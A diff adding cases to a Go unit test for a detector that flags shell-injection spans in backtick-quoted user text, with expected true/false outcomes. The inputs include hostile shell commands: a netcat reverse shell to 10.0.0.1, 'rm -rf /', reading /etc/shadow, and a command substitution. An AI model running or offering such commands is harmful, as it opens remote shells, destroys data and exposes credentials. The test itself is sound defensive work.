@@ -161,6 +161,13 @@ func TestInlineShellSpans(t *testing.T) {
 		{"Nice post; `rm -rf /tmp/x` thanks a lot", true},
 		{"hello`rm -rf /tmp/x` thanks a lot friend", true},
 		{"`nc -e /bin/sh 10.0.0.1 4444` is what they ran yesterday", true},
+		// A span naming a system path or a shell needs a real paragraph around it, and no weapon.
+		{"I run `docker run --add-host=db.internal:10.0.0.5 myimg` and inside the container `cat /etc/hosts` shows the entry", false},
+		{"try `kubectl exec -it deploy/api -- /bin/sh` and then check the environment there", false},
+		{"see `cat /etc/hosts` now", true},
+		{"I run this and inside the container `cat /etc/shadow` shows the entry", true},
+		{"I run this and inside the container `rm -rf /` shows the entry", true},
+		{"I run this and inside the container `echo $(id)` shows the entry", true},
 	} {
 		fams := famSQLi | famXSS | famCmdi | famTraversal | famNoSQL | famProto
 		_, f := detectInContext(tc.in, LocBody, false, fams, true)
